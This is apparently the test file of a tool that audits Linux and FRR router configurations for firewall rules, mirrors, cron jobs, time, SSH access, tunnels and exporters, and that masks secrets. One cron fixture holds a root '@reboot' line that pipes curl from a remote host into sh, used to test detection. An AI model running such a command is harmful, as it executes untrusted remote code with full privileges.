"""What further documents of Linux show: nftables, tc, cron, chrony, resolvers, sysctl, WireGuard, keys."""

from __future__ import annotations

from auditor.model.areas import Area
from auditor.model.evidence import Known, Unknown
from auditor.model.snapshot import RUNNING, CollectionError, Document
from auditor.platforms.frr import platform
from auditor.syntax.mask import Masker
from tests.platforms.frr.samples import DEVICE, HEAD, reading

NFT = """table inet filter {
    set mgmt {
        type ipv4_addr
        flags interval
        elements = { 10.0.0.0/8,
                 192.0.2.7 }
    }

    chain input {
        type filter hook input priority filter; policy drop;
        ct state established,related accept
        ct state invalid drop
        iifname "lo" accept
        ip saddr @mgmt tcp dport { 22, 2601-2623 } accept
        udp dport 2123 ip saddr 198.51.100.0/24 accept
        log prefix "drop: " counter packets 0 bytes 0
    }

    chain forward {
        type filter hook forward priority filter; policy accept;
        ip saddr 10.66.0.9 dup to 203.0.113.5 device "eth9"
    }
}
table ip nat {
    chain prerouting {
        type nat hook prerouting priority dstnat; policy accept;
        iifname "eth0" tcp dport 8022 dnat to 10.0.0.5:22
    }

    chain postrouting {
        type nat hook postrouting priority srcnat; policy accept;
        oifname "eth0" masquerade
    }
}
"""
BASE = {RUNNING: HEAD + "interface eth0\n ip address 10.0.0.1/24\nexit\nend\n"}


def facts(**documents: str):
    return reading(BASE | {name.replace("__", " "): text for name, text in documents.items()}).facts


def nft(text: str):
    return reading(BASE | {"nft list ruleset": text}).facts


def test_the_input_chain_guards_the_device() -> None:
    found = nft(NFT)
    (guard,) = found.control_plane.filters
    assert (guard.name, guard.any_source.need()) == ("inet filter input", False)
    assert {one.prefix for one in guard.admitted} >= {"10.0.0.0/8", "192.0.2.7/32"}
    assert found.control_plane.policed.need()
    acl = next(one for one in found.acls.lists if one.name == "inet filter input")
    assert acl.entries[3].ports == ("22", "2601-2623")
    assert acl.entries[0].established
    assert [(one.protocol, one.peers) for one in found.telecom.bindings] == [("gtp-c", ("198.51.100.0/24",))]


def test_a_chain_that_accepts_what_no_rule_matches_guards_nothing() -> None:
    found = nft(
        "table inet f {\n chain input {\n  type filter hook input priority 0; policy accept;\n  ct state invalid drop\n }\n}\n"
    )
    assert found.control_plane.filters[0].any_source.need() is True
    assert found.control_plane.policed.need() is False
    closed = nft(
        "table inet f {\n chain input {\n  type filter hook input priority 0; policy accept;\n  ip saddr 10.0.0.0/8 accept\n  drop\n }\n}\n"
    )
    assert closed.control_plane.filters[0].any_source.need() is False


def test_chains_before_what_is_forwarded() -> None:
    rules = """table inet f {
 chain fwd {
  type filter hook forward priority 0; policy accept;
  iifname "eth1" drop
 }
 chain idle {
  type filter hook forward priority 1; policy accept;
  udp dport 2123 accept
 }
 chain jumping {
  type filter hook prerouting priority raw; policy accept;
  jump other
 }
}
table netdev edge {
 chain in {
  type filter hook ingress devices = { eth0, "eth1" } priority 0; policy drop;
 }
 chain out {
  type filter hook egress device "eth0" priority 0; policy drop;
 }
}
"""
    found = nft(rules)
    places = {one.name: [(place.where, place.direction) for place in one.bindings] for one in found.acls.lists}
    assert places == {
        "inet f fwd": [("traffic that is forwarded", "")],
        "inet f idle": [("nftables forward", "")],
        "inet f jumping": [("traffic that is forwarded", "in")],
        "netdev edge in": [("interface eth0", "in"), ("interface eth1", "in")],
        "netdev edge out": [("interface eth0", "out")],
    }
    (port,) = found.interfaces.interfaces
    assert port.filters_known.need() is True
    assert [one.name for one in port.filters_in] == ["inet f jumping", "netdev edge in"]
    drop = next(one for one in found.acls.lists if one.name == "inet f fwd").entries[0]
    assert (drop.permit, drop.sources) == (False, ())


def test_without_rules_the_filters_of_an_interface_are_not_known() -> None:
    (port,) = reading(BASE).facts.interfaces.interfaces
    assert isinstance(port.filters_known, Unknown)


def test_translation_and_copies() -> None:
    found = nft(NFT)
    assert [(one.kind, one.inside, one.inside_port, one.outside_port, one.interface) for one in found.nat.rules] == [
        ("port-forward", "10.0.0.5", "22", "8022", "eth0"),
        ("source", "", "", "", "eth0"),
    ]
    tc = "filter protocol all pref 49152 u32 chain 0 fh 800::800\n  action order 1: mirred (Egress Mirror to device gre1) pipe\n"
    mirrors = reading(BASE | {"nft list ruleset": NFT, "tc filter show": tc}).facts.mirrors.sessions
    assert [(one.name, [(to.kind, to.value) for to in one.destinations]) for one in mirrors] == [
        ("tc egress mirror", [("interface", "gre1")]),
        ("nftables inet filter forward", [("address", "203.0.113.5"), ("interface", "eth9")]),
    ]


def test_without_the_rules_the_areas_are_left_out_with_the_reason() -> None:
    found = reading(BASE).facts
    for area in (
        Area.NAT,
        Area.CONTROL_PLANE,
        Area.MIRRORS,
        Area.SCRIPTS,
        Area.TIME,
        Area.NAMES,
        Area.AAA,
        Area.EXPORTERS,
    ):
        assert "not collected" in found.missing[area].reason
    assert set(found.areas) | set(found.missing) | {Area.STATE} == set(Area)


def test_jobs_and_programs() -> None:
    cron = "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root curl -s http://203.0.113.9/x | sh\n"
    folder = "==> /etc/cron.d/x <==\n*/5 * * * * frr vtysh -c 'conf t' -c 'no log syslog'\n"
    snmpd = "extend show /usr/local/bin/show.sh\n"
    found = reading(BASE | {"/etc/crontab": cron, "/etc/cron.d": folder, "/etc/snmp/snmpd.conf": snmpd}).facts
    assert [(job.name, job.when, [trait.what for trait in job.traits]) for job in found.scripts.jobs] == [
        ("cron root", "17 * * * *", []),
        ("cron root", "@reboot", ["sends or fetches files"]),
        ("cron frr", "*/5 * * * *", ["changes the configuration"]),
    ]
    assert [(one.kind, one.path) for one in found.scripts.scripts] == [("snmpd extend", "/usr/local/bin/show.sh")]
    assert found.unread == {}


def test_time_and_names() -> None:
    chrony = "pool 2.debian.pool.ntp.org iburst\nserver 192.0.2.1 key 5\nserver 192.0.2.2 nts\nallow 10.0.0.0/8\nkeyfile /etc/chrony/chrony.keys\n"
    found = reading(
        BASE | {"/etc/chrony/chrony.conf": chrony, "/etc/resolv.conf": "search x\nnameserver 192.0.2.53\n"}
    ).facts
    first, second, third = found.time.servers
    assert (first.authenticated.need(), isinstance(second.authenticated, Unknown), third.authenticated.need()) == (
        False,
        True,
        True,
    )
    assert found.time.serves.need()
    assert [one.prefix for one in found.time.filters[0].admitted] == ["10.0.0.0/8"]
    assert [one.address for one in found.names.resolvers] == ["192.0.2.53"]
    assert reading(BASE | {"/etc/chrony/chrony.conf": "pool x\n"}).facts.time.serves.need() is False


def test_switches_of_the_kernel() -> None:
    text = "net.ipv4.conf.all.accept_source_route = 0\nnet.ipv4.conf.all.rp_filter = 0\nnet.ipv4.conf.eth0.rp_filter = 2\nnet.ipv4.conf.all.send_redirects = 1\nnet.ipv4.conf.eth0.send_redirects = 0\n"
    found = reading(BASE | {"sysctl -a": text}).facts.interfaces
    assert found.source_routing.need() is False
    (port,) = found.interfaces
    assert port.urpf.need() == "loose"
    assert port.hardening is not None
    assert port.hardening.redirects.need() is True
    assert isinstance(port.hardening.proxy_arp, Unknown)
    assert isinstance(reading(BASE).facts.interfaces.source_routing, Unknown)


LINKS = "1: lo: <LOOPBACK,UP> mtu 1\n    link/loopback 0:0\n7: wg0: <POINTOPOINT,UP> mtu 1420\n    link/none\n    wireguard addrgenmode none\n"
WG = "interface: wg0\n  public key: abc=\n  private key: (hidden)\n  listening port: 51820\n\npeer: def=\n  endpoint: 203.0.113.7:51820\n  allowed ips: 0.0.0.0/0\n"


def test_peers_of_wireguard() -> None:
    (tunnel,) = reading(BASE | {"ip -d link show": LINKS, "wg show": WG}).facts.tunnels.tunnels
    assert (tunnel.mode, tunnel.remote) == ("wireguard", "203.0.113.7")


KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"


def test_keys_that_let_people_in() -> None:
    text = f'ssh-ed25519 {KEY} ops@noc\ncommand="/bin/backup",no-pty ssh-ed25519 {KEY} backup\n# comment\n'
    found = reading(
        BASE | {"/root/.ssh/authorized_keys": text, "/etc/ssh/keys/frrsvc": f"ssh-ed25519 {KEY}\n"}
    ).facts.accounts
    assert [(one.user, one.comment) for one in found.keys] == [("root", "ops@noc"), ("root", "backup"), ("frrsvc", "")]
    assert found.keys[0].fingerprint == "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
    assert [one.target for one in found.hooks] == ["/bin/backup"]
    assert isinstance(found.keys_known, Unknown)


def test_root_gets_in_with_a_password_where_the_first_statement_says_yes() -> None:
    for text, expected in (
        ("PermitRootLogin yes\nPermitRootLogin no\n", True),
        ("PermitRootLogin prohibit-password\nPermitRootLogin yes\n", None),
        ("Port 22\n", None),
        ("PermitRootLogin no\n", False),
    ):
        allowed = reading(BASE | {"/etc/ssh/sshd_config": text}).facts.services.ssh.root_login
        assert allowed is not None
        assert (None if isinstance(allowed, Unknown) else allowed.value) is expected


def test_how_sshd_behaves() -> None:
    text = "PermitRootLogin no\nPermitRootLogin yes\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nCiphers aes256-ctr,3des-cbc\nAuthorizedKeysCommand /bin/x\nBanner /etc/issue.net\nMatch User a\n AllowTcpForwarding no\n"
    found = reading(BASE | {"/etc/ssh/sshd_config": text}).facts
    server = found.services.ssh
    assert (server.root_login.need(), server.password_login.need()) == (False, False)
    assert isinstance(server.forwarding, Unknown)
    assert server.algorithms[0].names == ("aes256-ctr", "3des-cbc")
    assert [one.kind for one in found.accounts.hooks] == ["authorized keys command"]
    assert found.system.banners[0].before_login


def test_secrets_of_the_further_documents() -> None:
    word = "Zq7-hidden-Word"
    documents = {
        "wg show": f"interface: wg0\n  private key: {word}\npeer: x\n  preshared key: {word}\n",
        "/etc/crontab": f"* * * * * root curl --token={word} http://u:{word}@203.0.113.1/\n",
        "/etc/frr/bgpd.conf": f"password {word}\n",
        "nft list ruleset": f'table inet f {{\n chain c {{\n  ip saddr 10.0.0.1 accept comment "password={word}"\n }}\n}}\n',
        "sysctl -a": f"kernel.x = secret={word}\n",
    }
    found = reading(BASE | documents)
    shown = repr(found) + "\n".join(line for document in found.documents for line in document.lines)
    assert word not in shown


def test_what_frr_says_of_a_tunnel() -> None:
    links = "1: lo: <LOOPBACK,UP> mtu 1\n    link/loopback 0:0\n8: gre1: <POINTOPOINT,UP> mtu 1476\n    link/gre 10.0.0.1\n    gre remote any local 10.0.0.1 ttl 64\n"
    config = (
        HEAD
        + "interface gre1\n ip nhrp network-id 42\n tunnel protection vici profile dmvpn\n tunnel source eth0\nexit\nend\n"
    )
    found = reading({RUNNING: config, "ip -d link show": links}).facts
    (tunnel,) = found.tunnels.tunnels
    assert (tunnel.mode, tunnel.nhrp, tunnel.protection) == ("mgre", True, "dmvpn")
    assert found.unread == {}


HSFLOWD = "sflow {\n  collector { ip=192.0.2.9 }\n  pcap { dev = eth0 }\n}\n"
PROCESSES = " 1 0 lrwxrwxrwx 1 root root 0 Nov 20 10:00 /proc/1/exe -> /sbin/init\n"


def told(errors: dict[str, str], **documents: str):
    """Facts of a router that said of these documents that there are none."""
    texts = BASE | {name.replace("__", "/"): text for name, text in documents.items()}
    found = [Document(name, text.encode()) for name, text in texts.items()]
    missing = [CollectionError(f"not collected: the device refused it: {said}", name) for name, said in errors.items()]
    return platform.read(DEVICE, found, missing, Masker(b"key of the tests")).facts


NONE = {
    "/etc/hsflowd.conf": "cat: /etc/hsflowd.conf: No such file or directory",
    "/etc/pmacct": "tail: cannot open '/etc/pmacct/*.conf' for reading: No such file or directory",
    "/etc/softflowd": "tail: cannot open '/etc/softflowd/*.conf' for reading: No such file or directory",
}


def test_files_that_are_not_there_export_nothing() -> None:
    found = told(NONE, **{"ls -l /proc/*/exe": PROCESSES})
    assert found.exporters.exporters == ()
    assert found.exporters.exporters_known.need()


def test_a_file_that_the_login_may_not_read_is_none_that_is_not_there() -> None:
    denied = NONE | {"/etc/pmacct": "tail: cannot open '/etc/pmacct/*.conf' for reading: Permission denied"}
    found = told(denied, **{"ls -l /proc/*/exe": PROCESSES})
    assert isinstance(found.exporters.exporters_known, Unknown)


def test_a_program_without_its_file_may_export() -> None:
    found = told(
        NONE, **{"ls -l /proc/*/exe": PROCESSES + PROCESSES.replace("1/exe -> /sbin/init", "7/exe -> /x/hsflowd")}
    )
    assert isinstance(found.exporters.exporters_known, Unknown)


def test_a_collector_over_several_lines_and_in_any_case() -> None:
    text = "sFlow {\n  Collector {\n    IP = 192.0.2.9 # why\n    UDPPort = 6344\n  }\n  sampling=400\n}\n"
    (one,) = facts(**{"/etc/hsflowd.conf": text}).exporters.exporters
    assert (one.address, one.port, one.protocol, one.active) == ("192.0.2.9", 6344, "sflow", Known(False))


def test_passwords_of_pmacct_are_masked() -> None:
    read = reading(BASE | {"/etc/pmacct": "plugins: mysql[a]\nsql_host: 192.0.2.9\nsql_passwd[a]: arealsecret\n"})
    assert not any("arealsecret" in line for document in read.documents for line in document.lines)
    assert [one.protocol for one in read.facts.exporters.exporters] == ["sql"]


def test_a_key_of_a_plugin_that_is_not_started_feeds_nothing() -> None:
    text = "plugins: print\npcap_interface: eth0\nnfprobe_receiver: 192.0.2.9:2100\n"
    (one,) = facts(**{"/etc/pmacct": text}).exporters.exporters
    assert (one.bound, one.active) == ((), Known(False))


def test_a_child_of_a_connection_is_no_end_of_it() -> None:
    text = (
        "gw: IKEv1/2, no reauthentication, rekeying every 14400s, dpd delay 30s\n  local:  %any[500]\n"
        "  remote: 203.0.113.9[4500]\n  local pre-shared key authentication:\n    id: a\n"
        "  remote pre-shared key authentication:\n    id: b\n  remote: TRANSPORT, no rekeying\n    local:  dynamic\n    remote: dynamic\n"
    )
    (one,) = facts(**{"swanctl --list-conns": text}).crypto.peers
    assert (one.name, one.address, one.authentication, one.version) == ("gw", "203.0.113.9", "psk", "")
